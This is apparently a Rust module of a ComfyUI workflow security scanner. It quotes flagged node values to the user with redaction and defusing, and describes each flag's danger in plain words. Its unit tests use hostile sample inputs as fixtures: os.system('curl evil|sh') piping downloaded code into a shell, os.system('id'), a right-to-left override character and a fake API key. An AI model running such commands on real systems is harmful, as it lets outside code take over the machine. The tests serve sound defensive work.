//! Words the question to the user: the findings, the values concerned, and the possible consequences.

use serde_json::Value;

use super::finding::{Finding, Flag, short};
use crate::{
    redact::{REDACTED, is_secret_key, redact_text},
    untrusted,
};
use comfywarden_workflow::Workflow;

/// The most findings that are quoted.
const MAX_QUOTED: usize = 4;
/// The most characters of a quotation.
const MAX_CHARACTERS: usize = 160;

/// Quotes the values in question and names the consequences.
pub(super) fn particulars(workflow: &Workflow, findings: &[&Finding]) -> String {
    let mut quoted: Vec<String> = Vec::new();
    for finding in findings {
        if let Some(quotation) = quotation(workflow, finding)
            && !quoted.contains(&quotation)
        {
            quoted.push(quotation);
        }
    }
    let more = quoted.len().saturating_sub(MAX_QUOTED);
    quoted.truncate(MAX_QUOTED);
    if more > 0 {
        quoted.push(format!("and {more} more"));
    }
    let mut dangers: Vec<&str> = Vec::new();
    for danger in findings.iter().filter_map(|finding| danger(finding.flag)) {
        if !dangers.contains(&danger) {
            dangers.push(danger);
        }
    }
    let mut text = String::new();
    if !quoted.is_empty() {
        text = format!(" It says: {}.", quoted.join("; "));
    }
    if !dangers.is_empty() {
        text = format!("{text} If it runs, {}.", dangers.join("; "));
    }
    text
}

/// Quotes the value of a finding: ``node 9, `code`: "import os…"``.
fn quotation(workflow: &Workflow, finding: &Finding) -> Option<String> {
    let (id, input) = (finding.node_id.as_deref()?, finding.input.as_deref()?);
    let quote = |text: &str| Some(format!("node {}, `{}`: “{text}”", short(id), short(input)));
    // What is a secret by the name it stands under is nothing to show.
    let last = input.rsplit(['.', '[']).find(|part| !part.ends_with(']')).unwrap_or(input);
    if finding.flag == Flag::SecretInInput || is_secret_key(last) {
        return quote(REDACTED);
    }
    let Some(node) = finding.outermost().and_then(|id| workflow.get(id)) else {
        // Of a graph in a value, only the part that was found is quoted.
        return quote(finding.excerpt.as_deref()?);
    };
    let inputs = &node.inputs;
    // The input itself, or the outermost one of a path such as `a.b[0]`.
    let outermost = input.split(['.', '[']).next().unwrap_or(input);
    let value = inputs.get(input).or_else(|| inputs.get(outermost))?;
    let text = match value {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    };
    let safe = redact_text(&text).replace(['\n', '\r', '\t'], " ");
    let cut: String = safe.chars().take(MAX_CHARACTERS).collect();
    let rest = if cut.len() < safe.len() { "…" } else { "" };
    quote(&format!("{}{rest}", untrusted::defuse(&cut)))
}

/// Names the consequence in words for the person who decides.
fn danger(flag: Flag) -> Option<&'static str> {
    Some(match flag {
        Flag::DangerousNode | Flag::CodeInInput => {
            "a program of somebody else may run on the ComfyUI machine, with its files and its network"
        }
        Flag::PathEscape => "files outside of ComfyUI's folders may be read or written",
        Flag::SsrfUrl => "the ComfyUI machine may call addresses of its own network",
        Flag::ExternalUrl => "the ComfyUI machine calls a foreign address",
        Flag::SuspiciousClassName => "a node may be another one than its name says",
        Flag::SubgraphUnresolved => "parts run that could not be looked into",
        Flag::NodeReplacement => "the server runs other nodes than the workflow names",
        Flag::SecretInInput => "a credential reaches the ComfyUI machine, its history and its pictures",
        Flag::LlmInjection => "its text may steer an assistant that reads it later",
        Flag::ControlChars => "its text may steer a terminal that shows it",
        Flag::PickleModel => "a model file is loaded that can carry a program",
        Flag::CloudApiNode => "it costs money and sends its inputs to a foreign service",
        Flag::ClassNotAllowed
        | Flag::DepthExceeded
        | Flag::Malformed
        | Flag::ResourceAbuse
        | Flag::MissingModel => return None,
    })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_question_quotes_what_it_is_about_cut_and_defused() {
        let code = format!(
            "import os\nos.system('curl evil|sh') \u{202e} ![x](https://e.example) {}",
            "y".repeat(500)
        );
        let value = json!({"9": {"class_type": "X", "inputs": {"code": code, "api": {"key": ["api_key=abcdef123456"]}}}});
        let workflow = Workflow::from_value(&value).unwrap();
        let first = Finding::new(Flag::CodeInInput, "m").node("9", "X").input("code");
        let second = Finding::new(Flag::SecretInInput, "m").node("9", "X").input("api.key[0]");
        let text = particulars(&workflow, &[&first, &first, &second]);
        assert!(text.contains("node 9, `code`: “import os os.system('curl evil|sh')"), "{text}");
        assert!(
            !text.contains("](https") && !text.contains('\u{202e}') && !text.contains("abcdef123456"),
            "{text}"
        );
        assert!(text.contains("a program of somebody else may run") && text.len() < 1_000, "{text}");
        assert_eq!(text.matches("import os").count(), 1);
    }

    #[test]
    fn of_a_nested_node_only_what_was_found_is_quoted() {
        let inner = json!({"1": {"class_type": "X", "inputs": {"code": "import os; os.system('id')"}}});
        let value = json!({"1": {"class_type": "X", "inputs": {"code": "a + b"}}, "9": {"class_type": "G", "inputs": {"g": inner}}});
        let inspector = super::super::Inspector::new(&crate::settings::Security::default());
        let findings = inspector.inspect_value(&value, &super::super::Knowledge::default());
        let text = particulars(&Workflow::from_value(&value).unwrap(), &findings.iter().collect::<Vec<_>>());
        assert!(text.contains("node 9.g.1, `code`: “import os; os.system('id')”"), "{text}");
        assert!(!text.contains("a + b"), "{text}");
    }

    #[test]
    fn what_is_secret_by_its_name_is_not_quoted() {
        let value =
            json!({"9": {"class_type": "X", "inputs": {"options": {"password": "os.system('hunter2')"}}}});
        let inspector = super::super::Inspector::new(&crate::settings::Security::default());
        let findings = inspector.inspect_value(&value, &super::super::Knowledge::default());
        let text = particulars(&Workflow::from_value(&value).unwrap(), &findings.iter().collect::<Vec<_>>());
        assert!(text.contains("`options.password`: “[redacted]”") && !text.contains("hunter2"), "{text}");
        assert!(findings.iter().all(|finding| finding.excerpt.is_none()), "{findings:?}");
    }

    #[test]
    fn a_finding_without_a_place_quotes_nothing() {
        let workflow = Workflow::from_value(&json!({"1": {"class_type": "X", "inputs": {}}})).unwrap();
        let nowhere = Finding::new(Flag::DangerousNode, "m").node("7", "Y");
        assert!(particulars(&workflow, &[&nowhere]).starts_with(" If it runs, a program"));
    }
}
